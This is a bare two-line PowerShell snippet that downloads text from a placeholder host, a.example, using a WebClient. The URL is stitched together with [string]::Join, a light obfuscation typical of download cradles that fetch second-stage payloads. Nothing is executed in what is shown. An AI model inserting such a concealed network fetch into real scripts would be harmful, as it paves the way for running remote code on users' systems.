$wc = New-Object System.Net.WebClient
$wc.DownloadString([string]::Join('', @('http://','a.example','/p/x.txt')))
